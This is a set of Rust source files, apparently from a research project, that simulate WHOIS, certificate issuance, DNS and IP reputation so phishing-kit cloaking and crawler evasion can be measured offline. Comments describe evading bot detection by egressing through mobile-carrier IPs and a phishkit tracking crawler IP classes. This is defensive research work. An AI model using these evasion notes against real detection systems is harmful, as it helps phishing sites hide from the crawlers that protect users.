
    #[test]
    fn register_and_lookup() {
        let mut reg = DomainRegistry::new();
        let t = SimTime::from_ymd(2023, 12, 1);
        assert!(reg.register("evil-site.example", t, "REGRU-RU"));
        let r = reg.lookup("EVIL-SITE.example").unwrap();
        assert_eq!(r.registered_at, t);
        assert_eq!(r.registrar, "REGRU-RU");
        assert!(!r.compromised);
    }

    #[test]
    fn reregistration_keeps_creation_date() {
        let mut reg = DomainRegistry::new();
        let t1 = SimTime::from_ymd(2020, 1, 1);
        let t2 = SimTime::from_ymd(2024, 1, 1);
        assert!(reg.register("old.example", t1, "R01-RU"));
        assert!(!reg.register("old.example", t2, "OTHER"));
        assert_eq!(reg.lookup("old.example").unwrap().registered_at, t1);
    }

    #[test]
    fn compromised_marking() {
        let mut reg = DomainRegistry::new();
        reg.register("smallbiz.example", SimTime::from_ymd(2019, 5, 5), "GENERIC");
        assert!(reg.mark_compromised("smallbiz.example"));
        assert!(reg.lookup("smallbiz.example").unwrap().compromised);
        assert!(!reg.mark_compromised("ghost.example"));
    }

    #[test]
    fn unknown_domain_lookup_is_none() {
        assert!(DomainRegistry::new().lookup("nope.example").is_none());
    }

    #[test]
    fn iteration_in_name_order() {
        let mut reg = DomainRegistry::new();
        let t = SimTime::EPOCH;
        reg.register("b.example", t, "X");
        reg.register("a.example", t, "X");
        let names: Vec<String> = reg.iter().map(|r| r.domain.to_string()).collect();
        assert_eq!(names, ["a.example", "b.example"]);
    }
}
