#![warn(missing_docs)]

//! The simulated internet every other crate runs against.
//!
//! The paper's measurements lean on public infrastructure — WHOIS records
//! (domain registration timestamps), Certificate Transparency (TLS issuance
//! timestamps), Cisco Umbrella's passive DNS (per-domain query volumes) —
//! and on properties of the live network: IP reputation by ASN class
//! (datacenter vs residential vs the 4G modem NotABot used), HTTP header
//! order, TLS fingerprints. This crate implements all of it as a
//! deterministic, thread-safe world ([`Internet`]) that the attacker side
//! populates with sites and the crawler side issues requests into.
//!
//! # Example
//!
//! ```
//! use cb_netsim::{Internet, HttpRequest, HttpResponse, SiteHandler, NetContext};
//! use cb_sim::SimTime;
//!
//! struct Hello;
//! impl SiteHandler for Hello {
//!     fn handle(&self, _req: &HttpRequest, _ctx: &NetContext<'_>) -> HttpResponse {
//!         HttpResponse::ok("text/html", b"<html>hi</html>".to_vec())
//!     }
//! }
//!
//! let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
//! net.register_domain("example.test", "REG-1");
//! net.issue_certificate("example.test");
//! net.host("example.test", Hello);
//!
//! let resp = net.request(HttpRequest::get("https://example.test/"));
//! assert_eq!(resp.status, 200);
//! assert!(net.whois("example.test").is_some());
//! ```

pub mod ca;
pub mod dns;
pub mod faults;
pub mod http;
pub mod ip;
pub mod url;
pub mod whois;

mod internet;

pub use ca::{Certificate, CertificateAuthority};
pub use dns::{DnsService, PassiveDnsLedger, QueryVolume};
pub use faults::{FaultKind, FaultPlan, FaultProfile, NetError, FAULT_HEADER, LATENCY_HEADER};
pub use http::{HttpRequest, HttpResponse, TlsFingerprint};
pub use internet::{HostEnrichment, Internet, NetContext, SiteHandler};
pub use ip::{IpAddress, IpClass, IpSpace};
pub use url::{DomainName, Url};
pub use whois::{DomainRegistry, WhoisRecord};
