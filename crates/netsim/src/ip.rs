//! The IPv4 space, partitioned into ASN classes with reputations.
//!
//! Bot-detection services "identify bots by checking whether the associated
//! IP address is associated with cloud providers, proxies, or VPNs" (§IV-C);
//! NotABot evades this by egressing through a 4G modem on a commercial
//! mobile plan. [`IpClass`] encodes exactly that distinction, and
//! [`IpSpace`] hands out addresses from class-specific prefixes so every
//! connection carries a classifiable source.

use serde::{Deserialize, Serialize};
use std::fmt;
use std::sync::atomic::{AtomicU32, Ordering};

/// An IPv4 address.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct IpAddress(pub u32);

impl fmt::Display for IpAddress {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let [a, b, c, d] = self.0.to_be_bytes();
        write!(f, "{a}.{b}.{c}.{d}")
    }
}

/// The ASN class an address belongs to — the signal IP-reputation systems
/// consume.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum IpClass {
    /// Cloud/hosting providers: the default for crawler farms, heavily
    /// penalized by bot detection.
    Datacenter,
    /// Commercial VPN / proxy egress ranges.
    VpnProxy,
    /// Consumer broadband.
    Residential,
    /// Cellular carrier ranges (NotABot's 4G modem).
    MobileCarrier,
}

impl IpClass {
    /// Every egress class, in a fixed canonical order. The adaptive
    /// crawler's arm space and the phishkit's per-class reputation memory
    /// both index off this ordering, so it must never be reordered.
    pub const ALL: [IpClass; 4] = [
        IpClass::Datacenter,
        IpClass::VpnProxy,
        IpClass::Residential,
        IpClass::MobileCarrier,
    ];

    /// Reputation penalty this class contributes to bot-likelihood scoring
    /// (0 = human-typical, higher = more suspicious).
    pub fn reputation_penalty(self) -> u32 {
        match self {
            IpClass::Datacenter => 40,
            IpClass::VpnProxy => 30,
            IpClass::Residential => 0,
            IpClass::MobileCarrier => 0,
        }
    }

    /// Class prefix (top octet) in the simulated space.
    pub fn prefix(self) -> u32 {
        match self {
            IpClass::Datacenter => 10,
            IpClass::VpnProxy => 45,
            IpClass::Residential => 78,
            IpClass::MobileCarrier => 100,
        }
    }

    /// A deterministic egress address of this class for one request: a pure
    /// function of `(class, key, attempt)`, where `key` is the request
    /// target (URL). Unlike [`IpSpace::allocate`], which hands out
    /// addresses in arrival order, the address a crawl presents here does
    /// not depend on how many requests ran before it — the property that
    /// keeps concurrent batch scans bit-identical to serial ones even when
    /// servers echo the client address back into response bodies.
    pub fn egress_ip(self, key: &str, attempt: u32) -> IpAddress {
        // FNV-1a over the key and attempt; low 24 bits become the host
        // part, the class prefix stays in the top octet so
        // [`IpSpace::classify`] round-trips.
        let mut h: u32 = 0x811c_9dc5;
        for b in key.bytes().chain(attempt.to_be_bytes()) {
            h ^= u32::from(b);
            h = h.wrapping_mul(0x0100_0193);
        }
        IpAddress((self.prefix() << 24) | (h & 0x00FF_FFFF) | 1)
    }
}

impl fmt::Display for IpClass {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            IpClass::Datacenter => "datacenter",
            IpClass::VpnProxy => "vpn-proxy",
            IpClass::Residential => "residential",
            IpClass::MobileCarrier => "mobile-carrier",
        })
    }
}

/// Allocator of addresses from class-specific prefixes.
#[derive(Debug, Default)]
pub struct IpSpace {
    counters: [AtomicU32; 4],
}

impl IpSpace {
    /// A fresh space.
    pub fn new() -> Self {
        Self::default()
    }

    fn slot(class: IpClass) -> usize {
        match class {
            IpClass::Datacenter => 0,
            IpClass::VpnProxy => 1,
            IpClass::Residential => 2,
            IpClass::MobileCarrier => 3,
        }
    }

    /// Allocate the next address of `class`.
    pub fn allocate(&self, class: IpClass) -> IpAddress {
        let n = self.counters[Self::slot(class)].fetch_add(1, Ordering::Relaxed);
        IpAddress((class.prefix() << 24) | (n + 1))
    }

    /// Classify an address by its prefix. Unknown prefixes read as
    /// datacenter — the conservative default real reputation feeds use.
    pub fn classify(ip: IpAddress) -> IpClass {
        match ip.0 >> 24 {
            45 => IpClass::VpnProxy,
            78 => IpClass::Residential,
            100 => IpClass::MobileCarrier,
            _ => IpClass::Datacenter,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_dotted_quad() {
        assert_eq!(IpAddress(0x0A00_0001).to_string(), "10.0.0.1");
        assert_eq!(IpAddress(0x6400_002A).to_string(), "100.0.0.42");
    }

    #[test]
    fn allocation_round_trips_class() {
        let space = IpSpace::new();
        for class in [
            IpClass::Datacenter,
            IpClass::VpnProxy,
            IpClass::Residential,
            IpClass::MobileCarrier,
        ] {
            let ip = space.allocate(class);
            assert_eq!(IpSpace::classify(ip), class, "{ip}");
        }
    }

    #[test]
    fn allocations_are_unique() {
        let space = IpSpace::new();
        let a = space.allocate(IpClass::Residential);
        let b = space.allocate(IpClass::Residential);
        assert_ne!(a, b);
    }

    #[test]
    fn reputation_penalties_order() {
        assert!(IpClass::Datacenter.reputation_penalty() > IpClass::VpnProxy.reputation_penalty());
        assert_eq!(IpClass::MobileCarrier.reputation_penalty(), 0);
        assert_eq!(IpClass::Residential.reputation_penalty(), 0);
    }

    #[test]
    fn unknown_prefix_reads_as_datacenter() {
        assert_eq!(IpSpace::classify(IpAddress(0xC0A8_0001)), IpClass::Datacenter);
    }

    #[test]
    fn egress_ip_is_pure_and_round_trips_class() {
        for class in [
            IpClass::Datacenter,
            IpClass::VpnProxy,
            IpClass::Residential,
            IpClass::MobileCarrier,
        ] {
            let a = class.egress_ip("https://kit.example/land", 0);
            let b = class.egress_ip("https://kit.example/land", 0);
            assert_eq!(a, b, "pure function of (class, key, attempt)");
            assert_eq!(IpSpace::classify(a), class, "{a}");
        }
        // Different keys and attempts vary the host part.
        let base = IpClass::Residential.egress_ip("https://kit.example/a", 0);
        assert_ne!(base, IpClass::Residential.egress_ip("https://kit.example/b", 0));
        assert_ne!(base, IpClass::Residential.egress_ip("https://kit.example/a", 1));
        // Never the network address of the prefix.
        assert_ne!(base.0 & 0x00FF_FFFF, 0);
    }
}
